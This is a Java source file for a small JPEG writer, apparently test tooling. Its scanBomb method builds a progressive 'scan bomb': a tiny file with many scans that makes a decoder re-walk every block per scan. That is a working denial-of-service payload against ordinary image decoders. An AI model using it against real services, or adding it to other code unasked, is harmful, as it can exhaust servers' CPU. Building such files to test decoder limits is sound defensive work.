package whatis.image;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;

/** Writes JPEG files segment by segment, with tables of one code, a zero bit. */
public final class BareJpeg {

    /** What a code stands for that, with fourteen zero bits behind it, leaves 2^14 blocks empty. */
    private static final int LONGEST_RUN = 0xe0;

    private static final int BLOCKS_PER_RUN = 1 << 14;
    private static final int BITS_PER_RUN = 15;

    private final ByteArrayOutputStream file = new ByteArrayOutputStream();

    /** Begins with a table that divides by one. */
    public BareJpeg() {
        write(0xff, 0xd8);
        int[] quantization = new int[65];
        Arrays.fill(quantization, 1, quantization.length, 1);
        segment(0xdb, quantization);
    }

    /** Returns a grey progressive file in which a few bytes make a decoder go over all blocks once more for each scan. */
    public static byte[] scanBomb(int width, int height, int scans) {
        BareJpeg jpeg =
                new BareJpeg().frame(0xc2, width, height).huffmanTable(0x00, 0).huffmanTable(0x10, LONGEST_RUN);
        int blocks = (width + 7) / 8 * ((height + 7) / 8);
        jpeg.scan(0, 0).zeroBits(blocks);
        int runs = (blocks + BLOCKS_PER_RUN - 1) / BLOCKS_PER_RUN;
        for (int scan = 1; scan < scans; scan++) {
            int coefficient = 1 + (scan - 1) % 63;
            jpeg.scan(coefficient, coefficient).zeroBits(runs * BITS_PER_RUN);
        }
        return jpeg.end();
    }

    /** Adds the frame header of a grey picture. */
    public BareJpeg frame(int marker, int width, int height) {
        return segment(marker, 8, height >> 8, height, width >> 8, width, 1, 1, 0x11, 0);
    }

    /** Adds the header of a scan of the first component with all bits of some coefficients. */
    public BareJpeg scan(int first, int last) {
        return segment(0xda, 1, 1, 0, first, last, 0);
    }

    /** Adds a segment. */
    public BareJpeg segment(int marker, int... content) {
        write(0xff, marker, (content.length + 2) >> 8, content.length + 2);
        write(content);
        return this;
    }

    /** Adds a table in which a zero bit stands for a symbol. */
    public BareJpeg huffmanTable(int destination, int symbol) {
        int[] table = new int[18];
        table[0] = destination;
        table[1] = 1;
        table[17] = symbol;
        return segment(0xc4, table);
    }

    /** Adds zero bits, up to a whole byte. */
    public BareJpeg zeroBits(int bits) {
        file.writeBytes(new byte[(bits + 7) / 8]);
        return this;
    }

    /** Adds bytes as they are. */
    public BareJpeg write(int... values) {
        for (int value : values) {
            file.write(value);
        }
        return this;
    }

    /** Ends the image. */
    public byte[] end() {
        return write(0xff, 0xd9).file.toByteArray();
    }
}
